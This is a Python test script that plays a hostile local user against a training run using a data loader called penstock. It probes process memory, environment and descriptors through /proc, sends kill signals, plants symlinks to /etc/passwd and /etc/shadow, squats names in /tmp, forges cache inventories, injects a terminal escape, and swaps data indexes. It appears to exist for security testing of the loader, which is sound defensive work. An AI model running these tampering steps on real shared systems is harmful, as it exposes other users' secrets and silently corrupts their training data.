"""Another user of the machine, who knows all names: looks at everything of a training run, and plants what he can.

    python stranger.py PID FOLDER CACHE TABLE WRONG
    python stranger.py WRONG FOLDER

The second only plants indexes, before the run begins. WRONG is a folder with an index under each name that penstock
looks for beside the files of FOLDER: right in all that can be checked, but of files with other samples.

Only the standard library: he may not be able to read penstock. Prints a line of JSON for each thing that he could
open, read or change, and at the end how often he tried what.
"""

from __future__ import annotations

import fcntl
import json
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

tried: Counter[str] = Counter()


def attempt(kind: str, call: Callable[..., Any], *given: Any) -> None:
    tried[kind] += 1
    try:
        got = call(*given)
    except OSError:
        return
    print(json.dumps({"could": kind, "about": repr(given), "got": repr(got)[:80]}), flush=True)


def family(pid: int) -> Iterator[int]:
    """The process and its descendants, as far as /proc tells everybody."""
    parents = {}
    for name in filter(str.isdecimal, os.listdir("/proc")):
        with suppress(OSError, IndexError), open(f"/proc/{name}/stat") as file:
            parents[int(name)] = int(file.read().rpartition(")")[2].split()[1])
    found = {pid}
    for _ in range(8):
        found |= {each for each, parent in parents.items() if parent in found}
    return iter(found & {*parents, pid})


def read(path: str) -> bytes:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        if found := os.read(fd, 100):
            return found
        raise OSError("nothing can be read: the process has ended meanwhile, or the file is empty")
    finally:
        os.close(fd)


def look(pid: int) -> None:
    """Descriptors, memory and environment of each process of the run."""
    for each in family(pid):
        folder = f"/proc/{each}"
        attempt("list descriptors", os.listdir, f"{folder}/fd")
        for number in range(80):
            attempt("open a descriptor", os.open, f"{folder}/fd/{number}", os.O_RDONLY)
            attempt("write a descriptor", os.open, f"{folder}/fd/{number}", os.O_RDWR)
        for name in ("environ", "mem", "maps", "map_files", "auxv", "syscall", "stack"):
            attempt("read of a process", read, f"{folder}/{name}")
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGUSR1, 0):
            attempt("signal", os.kill, each, number)
        attempt("take a descriptor", _take, each)


def _take(pid: int) -> int:
    """pidfd_getfd, which needs the rights of a debugger."""
    import ctypes

    fd = os.pidfd_open(pid)
    try:
        taken = int(ctypes.CDLL(None, use_errno=True).syscall(438, fd, 3, 0))
    finally:
        os.close(fd)
    if taken < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return taken


def touch_cache(cache: str, rng: random.Random) -> None:
    """Reads, writes, links and locks in the folder of the cache, whose names he knows."""
    attempt("list the cache", os.listdir, cache)
    with suppress(OSError):
        for name in os.listdir(cache):
            attempt("read the cache", read, f"{cache}/{name}")
    attempt("lock the cache", _lock, f"{cache}/penstock-cache")
    digest = f"{rng.getrandbits(128):032x}"
    for name in (
        f"{digest}.penstock-piece",
        f"{digest}.penstock-part",
        f"{digest}-beside.tar.penstock-tar-2",
        f"{os.getpid()}-00000000.penstock-agenda",
    ):
        attempt("write into the cache", os.open, f"{cache}/{name}", os.O_CREAT | os.O_WRONLY, 0o666)
        attempt("link in the cache", os.symlink, "/etc/passwd", f"{cache}/{name}")
    attempt("replace the cache", os.rename, cache, f"{cache}-gone")
    attempt("replace the cache", os.rmdir, cache)


def _lock(path: str) -> None:
    fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_SH)


def memfd(name: str, content: bytes, seals: int = 0) -> int:
    fd = os.memfd_create(name, os.MFD_ALLOW_SEALING)
    os.write(fd, content)
    if seals:
        fcntl.fcntl(fd, fcntl.F_ADD_SEALS, seals)
    os.set_inheritable(fd, True)
    return fd


def plant(table: str, pid: int) -> list[int]:
    """An inventory of decoded blocks, older than any, whose blocks are wrong; and a row of `penstock top`."""
    fds = []
    for seals in (0, fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW, 0x2 | 0x4 | 0x8):
        block = memfd("penstock-block", b"\xff" * 100_000, seals)
        inode, row = os.fstat(block).st_ino, b""
        for number in range(64):
            row += struct.pack("<6q", number, os.getpid(), block, inode, 100_000, number)
        for magic in (b"pnstinv2", b"pnstinv3"):
            head = struct.pack("<8sqqq", magic, 1, 64, 64)
            whole = (head + row).ljust(4 << 20, b"\0")
            fds.append(memfd(f"penstock-inventory-{table}", whole, 0x2 | 0x4 if seals else 0))
        fds.append(block)
    text = json.dumps({"pid": pid, "at": time.time(), "stats": {"name": "PLANTED\x1b[2J"}}).encode()
    page = struct.pack("Q", 2).ljust(4096, b"\0") + struct.pack("QQ", len(text), zlib.crc32(text)) + text
    fds.append(memfd("penstock-loader", page.ljust(4096 + (128 << 10), b"\0"), 0x2 | 0x4))
    return fds


def carried(fds: list[int]) -> subprocess.Popen[bytes] | None:
    """A program of root that holds his descriptors, and waits for a password."""
    with suppress(OSError):
        return subprocess.Popen(
            ["su", "-c", "true"],
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            pass_fds=fds,
        )
    return None


def plant_indexes(wrong: str, folder: str, rng: random.Random) -> None:
    """Takes the names of indexes beside files, as a file, a link or a pipe; tries to replace those of the user."""
    for name in os.listdir(wrong):
        source, path, draft = f"{wrong}/{name}", f"{folder}/{name}", f"{folder}/stranger"
        way = rng.choice(("file", "file", "open file", "link", "pipe", "none"))
        with suppress(FileNotFoundError):
            os.unlink(draft)
        with suppress(OSError):  # the disk is full
            if way == "link":
                os.symlink(source, draft)  # which belongs to the user
            elif way == "pipe":
                os.mkfifo(draft, 0o666)
            else:
                _copied(source, draft, 0o666 if way == "open file" else 0o644)
            if os.path.lexists(path) and os.lstat(path).st_uid != os.getuid():
                attempt("replace an index", os.rename, draft, path)
            elif way == "none":
                os.unlink(path)
            else:
                os.rename(draft, path)
                tried[f"plant an index: {way}"] += 1


def _copied(source: str, path: str, mode: int) -> str:
    with open(source, "rb") as file, open(path, "wb") as out:
        out.write(file.read())
    os.chmod(path, mode)
    about = os.stat(source)
    os.utime(path, ns=(about.st_atime_ns, about.st_mtime_ns))
    return path


def names(folder: str) -> None:
    """Takes names that penstock may use in folders that everybody may write."""
    for where in ("/tmp", "/dev/shm", "/var/tmp", folder):
        for name in ("penstock", "penstock-cache", f"penstock-{os.getuid()}", ".penstock", "penstock-0"):
            with suppress(OSError):
                os.symlink("/etc/shadow", f"{where}/{name}-stranger")
                os.unlink(f"{where}/{name}-stranger")
    for name in os.listdir(folder):
        with suppress(FileNotFoundError):
            if os.lstat(f"{folder}/{name}").st_uid != os.getuid():
                attempt("delete beside the cache", os.unlink, f"{folder}/{name}")


def ports(pid: int) -> None:
    """Sockets that the run may listen on."""
    for name in ("penstock", f"penstock-{pid}", "penstock-loader"):
        with socket.socket(socket.AF_UNIX) as link:
            attempt("connect", link.connect, f"\0{name}")


def main(pid: int, folder: str, cache: str, table: str, wrong: str) -> None:
    rng = random.Random(pid)
    stop: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: stop.append(number))
    fds = plant(table, pid)
    su = carried(fds)
    print(json.dumps({"uid": os.getuid(), "carried": su is not None and su.poll() is None}), flush=True)
    while not stop:
        look(pid)
        touch_cache(cache, rng)
        touch_cache(f"{folder}/kept", rng)
        plant_indexes(wrong, folder, rng)
        names(folder)
        ports(pid)
        time.sleep(0.02)
    if su is not None:
        su.kill()
        su.wait()
    print(json.dumps({"tried": tried}), flush=True)


if __name__ == "__main__":
    if len(sys.argv) == 3:
        for name in os.listdir(sys.argv[1]):
            _copied(f"{sys.argv[1]}/{name}", f"{sys.argv[2]}/{name}", 0o644)
    else:
        main(int(sys.argv[1]), *sys.argv[2:6])
